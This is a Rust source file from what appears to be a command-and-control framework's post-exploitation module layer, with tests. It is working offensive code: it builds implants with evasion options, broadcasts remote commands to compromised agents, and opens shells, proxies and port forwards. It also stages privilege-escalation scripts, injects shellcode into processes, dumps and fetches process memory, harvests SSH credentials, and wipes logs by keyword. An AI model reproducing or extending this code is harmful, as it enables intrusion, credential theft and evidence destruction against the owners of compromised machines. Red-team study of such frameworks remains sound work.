//! Post-exploitation modules.
//!
//! Module options are tagged records, one variant per module, validated when
//! an option is set rather than when the module runs. Selecting a module
//! replaces the option set wholesale.

use serde::Serialize;

use crate::agents::{
    C2_CMD_CLEAN_LOG, C2_CMD_INJECT, C2_CMD_LPE, C2_CMD_MEMDUMP, C2_CMD_SCREENSHOT,
    C2_CMD_SSH_HARVESTER,
};
use crate::config::RuntimeConfig;
use crate::server::Cc;
use crate::tunnel::send_cmd;
use crate::{C2Error, Result};

/// LPE helper scripts the `lpe_suggest` module can stage for agents
pub const LPE_HELPERS: &[&str] = &[
    "lpe_les",
    "lpe_lse",
    "lpe_linpeas",
    "lpe_winpeas.ps1",
    "lpe_winpeas.bat",
    "lpe_winpeas.exe",
];

/// One option as shown to the operator
#[derive(Debug, Clone, Serialize)]
pub struct ModuleOption {
    pub name: String,
    pub val: String,
    pub vals: Vec<String>,
}

fn opt(name: &str, val: impl ToString, vals: &[&str]) -> ModuleOption {
    ModuleOption {
        name: name.to_string(),
        val: val.to_string(),
        vals: vals.iter().map(|s| s.to_string()).collect(),
    }
}

fn parse_port(value: &str) -> Result<u16> {
    value
        .parse()
        .map_err(|_| C2Error::Config(format!("not a port: {value}")))
}

fn parse_pid(value: &str) -> Result<i64> {
    value
        .parse()
        .map_err(|_| C2Error::Config(format!("not a pid: {value}")))
}

fn parse_switch(value: &str) -> Result<bool> {
    match value {
        "on" => Ok(true),
        "off" => Ok(false),
        _ => Err(C2Error::Config(format!("expected on/off, got {value}"))),
    }
}

/// Options of the agent builder module
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct GenAgentOptions {
    pub payload_type: String,
    pub arch: String,
    pub cc_host: String,
    pub cc_indicator: String,
    pub indicator_text: String,
    pub ncsi: bool,
    pub cdn_proxy: String,
    pub shadowsocks: String,
    pub c2transport_proxy: String,
    pub autoproxy_timeout: u64,
    pub doh_server: String,
    pub auto_proxy: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub enum ModuleConfig {
    GenAgent(GenAgentOptions),
    CmdExec {
        cmd_to_exec: String,
    },
    Shell {
        shell: String,
        args: String,
        port: u16,
    },
    PortFwd {
        to: String,
        listen_port: u16,
        reverse: bool,
    },
    Proxy {
        port: u16,
        status: bool,
    },
    LpeSuggest {
        lpe_helper: String,
    },
    CleanLog {
        keyword: String,
    },
    Injector {
        pid: i64,
        method: String,
    },
    MemDump {
        pid: i64,
    },
    SshHarvester,
    Screenshot,
}

impl ModuleConfig {
    pub const NAMES: &'static [&'static str] = &[
        "gen_agent",
        "cmd_exec",
        "interactive_shell",
        "port_fwd",
        "proxy",
        "lpe_suggest",
        "clean_log",
        "injector",
        "mem_dump",
        "ssh_harvester",
        "screenshot",
    ];

    /// Fresh defaults for a module. Unknown names are a user error.
    pub fn defaults(name: &str, config: &RuntimeConfig) -> Result<Self> {
        let module = match name {
            "gen_agent" => ModuleConfig::GenAgent(GenAgentOptions {
                payload_type: "linux_executable".to_string(),
                arch: "amd64".to_string(),
                cc_host: config.cc_host.clone(),
                shadowsocks: "off".to_string(),
                autoproxy_timeout: 0,
                doh_server: String::new(),
                ..Default::default()
            }),
            "cmd_exec" => ModuleConfig::CmdExec {
                cmd_to_exec: String::new(),
            },
            "interactive_shell" => ModuleConfig::Shell {
                shell: "bash".to_string(),
                args: String::new(),
                port: config.sshd_shell_port,
            },
            "port_fwd" => ModuleConfig::PortFwd {
                to: String::new(),
                listen_port: 0,
                reverse: false,
            },
            "proxy" => ModuleConfig::Proxy {
                port: 1080,
                status: true,
            },
            "lpe_suggest" => ModuleConfig::LpeSuggest {
                lpe_helper: "lpe_les".to_string(),
            },
            "clean_log" => ModuleConfig::CleanLog {
                keyword: String::new(),
            },
            "injector" => ModuleConfig::Injector {
                pid: 0,
                method: "shellcode".to_string(),
            },
            "mem_dump" => ModuleConfig::MemDump { pid: 0 },
            "ssh_harvester" => ModuleConfig::SshHarvester,
            "screenshot" => ModuleConfig::Screenshot,
            other => return Err(C2Error::ModuleUnknown(other.to_string())),
        };
        Ok(module)
    }

    pub fn name(&self) -> &'static str {
        match self {
            ModuleConfig::GenAgent(_) => "gen_agent",
            ModuleConfig::CmdExec { .. } => "cmd_exec",
            ModuleConfig::Shell { .. } => "interactive_shell",
            ModuleConfig::PortFwd { .. } => "port_fwd",
            ModuleConfig::Proxy { .. } => "proxy",
            ModuleConfig::LpeSuggest { .. } => "lpe_suggest",
            ModuleConfig::CleanLog { .. } => "clean_log",
            ModuleConfig::Injector { .. } => "injector",
            ModuleConfig::MemDump { .. } => "mem_dump",
            ModuleConfig::SshHarvester => "ssh_harvester",
            ModuleConfig::Screenshot => "screenshot",
        }
    }

    /// gen_agent runs locally; cmd_exec broadcasts when no target is active
    pub fn requires_target(&self) -> bool {
        !matches!(self, ModuleConfig::GenAgent(_) | ModuleConfig::CmdExec { .. })
    }

    /// Validate and apply one option.
    pub fn set_option(&mut self, name: &str, value: &str) -> Result<()> {
        match self {
            ModuleConfig::GenAgent(g) => match name {
                "payload_type" => g.payload_type = value.to_string(),
                "arch" => g.arch = value.to_string(),
                "cc_host" => g.cc_host = value.to_string(),
                "cc_indicator" => g.cc_indicator = value.to_string(),
                "indicator_text" => g.indicator_text = value.to_string(),
                "ncsi" => g.ncsi = parse_switch(value)?,
                "cdn_proxy" => g.cdn_proxy = value.to_string(),
                "shadowsocks" => match value {
                    "on" | "off" | "bare" => g.shadowsocks = value.to_string(),
                    _ => {
                        return Err(C2Error::Config(format!(
                            "expected on/off/bare, got {value}"
                        )))
                    }
                },
                "c2transport_proxy" => g.c2transport_proxy = value.to_string(),
                "autoproxy_timeout" => {
                    g.autoproxy_timeout = value
                        .parse()
                        .map_err(|_| C2Error::Config(format!("not a number: {value}")))?
                }
                "doh_server" => g.doh_server = value.to_string(),
                "auto_proxy" => g.auto_proxy = parse_switch(value)?,
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::CmdExec { cmd_to_exec } => match name {
                "cmd_to_exec" => *cmd_to_exec = value.to_string(),
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::Shell { shell, args, port } => match name {
                "shell" => *shell = value.to_string(),
                "args" => *args = value.to_string(),
                "port" => *port = parse_port(value)?,
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::PortFwd {
                to,
                listen_port,
                reverse,
            } => match name {
                "to" => *to = value.to_string(),
                "listen_port" => *listen_port = parse_port(value)?,
                "reverse" => *reverse = parse_switch(value)?,
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::Proxy { port, status } => match name {
                "port" => *port = parse_port(value)?,
                "status" => *status = parse_switch(value)?,
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::LpeSuggest { lpe_helper } => match name {
                "lpe_helper" => {
                    if !LPE_HELPERS.contains(&value) {
                        return Err(C2Error::Config(format!("unknown LPE helper: {value}")));
                    }
                    *lpe_helper = value.to_string();
                }
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::CleanLog { keyword } => match name {
                "keyword" => *keyword = value.to_string(),
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::Injector { pid, method } => match name {
                "pid" => *pid = parse_pid(value)?,
                "method" => *method = value.to_string(),
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::MemDump { pid } => match name {
                "pid" => *pid = parse_pid(value)?,
                _ => return Err(C2Error::OptionUnknown(name.to_string())),
            },
            ModuleConfig::SshHarvester | ModuleConfig::Screenshot => {
                return Err(C2Error::OptionUnknown(name.to_string()))
            }
        }
        Ok(())
    }

    /// Snapshot for the operator's option table
    pub fn options(&self) -> Vec<ModuleOption> {
        match self {
            ModuleConfig::GenAgent(g) => vec![
                opt("payload_type", &g.payload_type, &["linux_executable", "linux_so", "windows_executable", "windows_dll"]),
                opt("arch", &g.arch, &["amd64", "386", "arm", "arm64", "mips", "mips64", "riscv64"]),
                opt("cc_host", &g.cc_host, &[]),
                opt("cc_indicator", &g.cc_indicator, &[]),
                opt("indicator_text", &g.indicator_text, &[]),
                opt("ncsi", if g.ncsi { "on" } else { "off" }, &["on", "off"]),
                opt("cdn_proxy", &g.cdn_proxy, &[]),
                opt("shadowsocks", &g.shadowsocks, &["on", "off", "bare"]),
                opt("c2transport_proxy", &g.c2transport_proxy, &[]),
                opt("autoproxy_timeout", g.autoproxy_timeout, &[]),
                opt("doh_server", &g.doh_server, &["https://1.1.1.1/dns-query", "https://dns.google/dns-query"]),
                opt("auto_proxy", if g.auto_proxy { "on" } else { "off" }, &["on", "off"]),
            ],
            ModuleConfig::CmdExec { cmd_to_exec } => vec![opt("cmd_to_exec", cmd_to_exec, &[])],
            ModuleConfig::Shell { shell, args, port } => vec![
                opt("shell", shell, &["bash", "zsh", "sh", "python", "python3"]),
                opt("args", args, &[]),
                opt("port", port, &[]),
            ],
            ModuleConfig::PortFwd { to, listen_port, reverse } => vec![
                opt("to", to, &[]),
                opt("listen_port", listen_port, &[]),
                opt("reverse", if *reverse { "on" } else { "off" }, &["on", "off"]),
            ],
            ModuleConfig::Proxy { port, status } => vec![
                opt("port", port, &[]),
                opt("status", if *status { "on" } else { "off" }, &["on", "off"]),
            ],
            ModuleConfig::LpeSuggest { lpe_helper } => {
                vec![opt("lpe_helper", lpe_helper, LPE_HELPERS)]
            }
            ModuleConfig::CleanLog { keyword } => vec![opt("keyword", keyword, &[])],
            ModuleConfig::Injector { pid, method } => vec![
                opt("pid", pid, &[]),
                opt("method", method, &["shellcode", "shared_library"]),
            ],
            ModuleConfig::MemDump { pid } => vec![opt("pid", pid, &[])],
            ModuleConfig::SshHarvester | ModuleConfig::Screenshot => Vec::new(),
        }
    }
}

/// Run a module against `active_agent` (or every connected agent for a
/// target-less cmd_exec). Returns an operator-facing summary.
pub async fn run_module(cc: &Cc, module: &ModuleConfig, active_agent: Option<&str>) -> Result<String> {
    if module.requires_target() && active_agent.is_none() {
        return Err(C2Error::NoActiveTarget);
    }
    if let Some(tag) = active_agent {
        if !cc.registry.contains(tag) {
            return Err(C2Error::AgentUnknown(tag.to_string()));
        }
    }

    match module {
        ModuleConfig::GenAgent(options) => {
            // bake the build recipe for the stub packer; the copy embedded in
            // the stub travels sealed under the build magic
            let build_json = cc.workspace.root.join("build.json");
            std::fs::write(&build_json, serde_json::to_string_pretty(options)?)?;

            let magic_box = crate::crypto::MagicBox::new(&cc.config.magic_string)?;
            let sealed = magic_box.seal(&serde_json::to_vec(options)?)?;
            std::fs::write(cc.workspace.root.join("build.json.enc"), sealed)?;
            Ok(format!("agent build config written to {}", build_json.display()))
        }

        ModuleConfig::CmdExec { cmd_to_exec } => {
            if cmd_to_exec.is_empty() {
                return Err(C2Error::Config("cmd_to_exec is not set".to_string()));
            }
            match active_agent {
                Some(tag) => {
                    let cmd_id = send_cmd(cc, cmd_to_exec, "", tag).await?;
                    Ok(format!("command dispatched to {tag} ({cmd_id})"))
                }
                None => {
                    // broadcast: per-agent dispatch, no inter-agent barrier
                    let mut dispatched = 0;
                    for listing in cc.registry.list_connected() {
                        if !listing.connected {
                            continue;
                        }
                        match send_cmd(cc, cmd_to_exec, "", &listing.agent.tag).await {
                            Ok(_) => dispatched += 1,
                            Err(e) => {
                                tracing::error!("broadcast to {}: {e}", listing.agent.tag)
                            }
                        }
                    }
                    Ok(format!("command dispatched to {dispatched} agents"))
                }
            }
        }

        ModuleConfig::Shell { shell, args, port } => {
            let tag = active_agent.expect("target checked above");
            let lport = crate::net::sshd::start_sshd_shell(cc, tag, shell, args, *port).await?;
            Ok(format!("ssh -p {lport} 127.0.0.1"))
        }

        ModuleConfig::PortFwd {
            to,
            listen_port,
            reverse,
        } => {
            let tag = active_agent.expect("target checked above");
            if to.is_empty() {
                return Err(C2Error::Config("option 'to' is not set".to_string()));
            }
            if *reverse {
                let remote_listen = format!("0.0.0.0:{listen_port}");
                let session =
                    crate::net::portfwd::run_reverse_port_fwd(cc, tag, &remote_listen, to, "port_fwd (reverse)")
                        .await?;
                Ok(format!("reverse mapping {remote_listen} on agent -> {}", session.to))
            } else {
                let session =
                    crate::net::portfwd::run_port_fwd(cc, tag, to, *listen_port, "port_fwd").await?;
                Ok(format!("127.0.0.1:{} -> {} on agent", session.lport, session.to))
            }
        }

        ModuleConfig::Proxy { port, status } => {
            let tag = active_agent.expect("target checked above");
            let mode = if *status { "on" } else { "off" };
            send_cmd(cc, &format!("!proxy --mode {mode} --addr 0.0.0.0:{port}"), "", tag).await?;
            if !*status {
                return Ok("proxy stopped".to_string());
            }
            let to = format!("127.0.0.1:{port}");
            let session =
                crate::net::portfwd::run_port_fwd_corked(cc, tag, &to, 0, "socks5 proxy").await?;
            Ok(format!("socks5://127.0.0.1:{}", session.lport))
        }

        ModuleConfig::LpeSuggest { lpe_helper } => {
            let tag = active_agent.expect("target checked above");
            let staged = cc.workspace.www_dir.join(lpe_helper);
            if !staged.is_file() {
                tracing::warn!(
                    "{} is not staged in {}, agent download will 404",
                    lpe_helper,
                    cc.workspace.www_dir.display()
                );
            }
            send_cmd(cc, &format!("{C2_CMD_LPE} --script_name {lpe_helper}"), "", tag).await?;
            Ok(format!("{lpe_helper} dispatched, this can take a while"))
        }

        ModuleConfig::CleanLog { keyword } => {
            let tag = active_agent.expect("target checked above");
            send_cmd(cc, &format!("{C2_CMD_CLEAN_LOG} --keyword {keyword}"), "", tag).await?;
            Ok("log cleaner dispatched".to_string())
        }

        ModuleConfig::Injector { pid, method } => {
            let tag = active_agent.expect("target checked above");
            send_cmd(
                cc,
                &format!("{C2_CMD_INJECT} --method {method} --pid {pid}"),
                "",
                tag,
            )
            .await?;
            Ok(format!("injecting into pid {pid}"))
        }

        ModuleConfig::MemDump { pid } => {
            let tag = active_agent.expect("target checked above").to_string();
            let cmd_id = send_cmd(cc, &format!("{C2_CMD_MEMDUMP} --pid {pid}"), "", &tag).await?;
            let res = cc
                .commands
                .await_result(&cmd_id, crate::commands::DEFAULT_WAIT)
                .await;
            cc.commands.discard(&cmd_id);
            let path = res?;
            if path.is_empty() {
                return Err(C2Error::Protocol("empty memdump path from agent".to_string()));
            }
            let cc = cc.clone();
            let fetch_path = path.clone();
            tokio::spawn(async move {
                match crate::ftp::get_file(&cc, &fetch_path, &tag).await {
                    Ok(crate::ftp::GetFile::InProgress(handle)) => {
                        if let Err(e) = handle.wait().await {
                            tracing::error!("memdump fetch: {e}");
                        }
                    }
                    Ok(crate::ftp::GetFile::AlreadyHave(_)) => {}
                    Err(e) => tracing::error!("memdump fetch: {e}"),
                }
            });
            Ok(format!("fetching memory dump {path}"))
        }

        ModuleConfig::SshHarvester => {
            let tag = active_agent.expect("target checked above");
            send_cmd(cc, C2_CMD_SSH_HARVESTER, "", tag).await?;
            Ok("ssh harvester started, check back for captured credentials".to_string())
        }

        ModuleConfig::Screenshot => {
            let tag = active_agent.expect("target checked above");
            send_cmd(cc, C2_CMD_SCREENSHOT, "", tag).await?;
            Ok("screenshot requested, the file lands in file-get".to_string())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runtime() -> RuntimeConfig {
        RuntimeConfig::default()
    }

    #[test]
    fn every_module_has_defaults() {
        for name in ModuleConfig::NAMES {
            let module = ModuleConfig::defaults(name, &runtime()).unwrap();
            assert_eq!(module.name(), *name);
        }
        assert!(matches!(
            ModuleConfig::defaults("nope", &runtime()),
            Err(C2Error::ModuleUnknown(_))
        ));
    }

    #[test]
    fn set_option_validates_at_selection_time() {
        let mut module = ModuleConfig::defaults("interactive_shell", &runtime()).unwrap();
        module.set_option("shell", "zsh").unwrap();
        module.set_option("port", "22222").unwrap();

        assert!(matches!(
            module.set_option("port", "not-a-port"),
            Err(C2Error::Config(_))
        ));
        assert!(matches!(
            module.set_option("cmd_to_exec", "id"),
            Err(C2Error::OptionUnknown(_))
        ));

        match module {
            ModuleConfig::Shell { shell, port, .. } => {
                assert_eq!(shell, "zsh");
                assert_eq!(port, 22222);
            }
            _ => unreachable!(),
        }
    }

    #[test]
    fn gen_agent_well_known_keys() {
        let mut module = ModuleConfig::defaults("gen_agent", &runtime()).unwrap();
        for (key, value) in [
            ("payload_type", "linux_executable"),
            ("arch", "arm64"),
            ("cc_host", "c2.example.com"),
            ("ncsi", "on"),
            ("shadowsocks", "bare"),
            ("doh_server", "https://1.1.1.1/dns-query"),
            ("auto_proxy", "off"),
        ] {
            module.set_option(key, value).unwrap();
        }
        assert!(module.set_option("ncsi", "maybe").is_err());
        assert!(module.set_option("shadowsocks", "sometimes").is_err());
    }

    #[test]
    fn target_requirements() {
        let cmd_exec = ModuleConfig::defaults("cmd_exec", &runtime()).unwrap();
        assert!(!cmd_exec.requires_target(), "cmd_exec broadcasts without a target");

        let gen = ModuleConfig::defaults("gen_agent", &runtime()).unwrap();
        assert!(!gen.requires_target());

        for name in ["interactive_shell", "mem_dump", "screenshot", "port_fwd"] {
            assert!(
                ModuleConfig::defaults(name, &runtime()).unwrap().requires_target(),
                "{name} needs a target"
            );
        }
    }

    #[tokio::test]
    async fn cmd_exec_without_target_broadcasts() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());
        let magic = cc.config.magic_string.clone();

        // two connected agents with live tunnels
        let mut tunnels = Vec::new();
        for tag in ["agent-a", "agent-b"] {
            cc.registry.register(crate::agents::Agent {
                tag: tag.to_string(),
                ..Default::default()
            });
            let (tx, rx) = tokio::sync::mpsc::channel(8);
            cc.registry.attach_conn(tag, tx, 1).unwrap();
            tunnels.push(rx);
        }

        let module = ModuleConfig::CmdExec {
            cmd_to_exec: "uname -a".to_string(),
        };
        let summary = run_module(&cc, &module, None).await.unwrap();
        assert!(summary.contains("2 agents"));

        // identical command, distinct dispatch ids
        let mut seen_ids = std::collections::HashSet::new();
        for rx in tunnels.iter_mut() {
            let frame = rx.recv().await.unwrap();
            let msg: crate::tunnel::MsgTunData = serde_json::from_slice(&frame).unwrap();
            let parts: Vec<String> = crate::tunnel::split_payload(&magic, &msg.payload)
                .into_iter()
                .map(str::to_string)
                .collect();
            assert_eq!(parts[0], "cmd");
            assert_eq!(parts[1], "uname -a");
            assert!(seen_ids.insert(parts[2].clone()), "dispatch ids must differ");
        }
    }

    #[tokio::test]
    async fn run_without_target_is_rejected() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());
        let module = ModuleConfig::defaults("screenshot", &cc.config).unwrap();
        let err = run_module(&cc, &module, None).await.unwrap_err();
        assert!(matches!(err, C2Error::NoActiveTarget));
    }

    #[test]
    fn options_snapshot_follows_state() {
        let mut module = ModuleConfig::defaults("lpe_suggest", &runtime()).unwrap();
        module.set_option("lpe_helper", "lpe_linpeas").unwrap();
        let options = module.options();
        assert_eq!(options[0].name, "lpe_helper");
        assert_eq!(options[0].val, "lpe_linpeas");
        assert_eq!(options[0].vals.len(), LPE_HELPERS.len());

        assert!(module.set_option("lpe_helper", "rootkit.sh").is_err());
    }
}
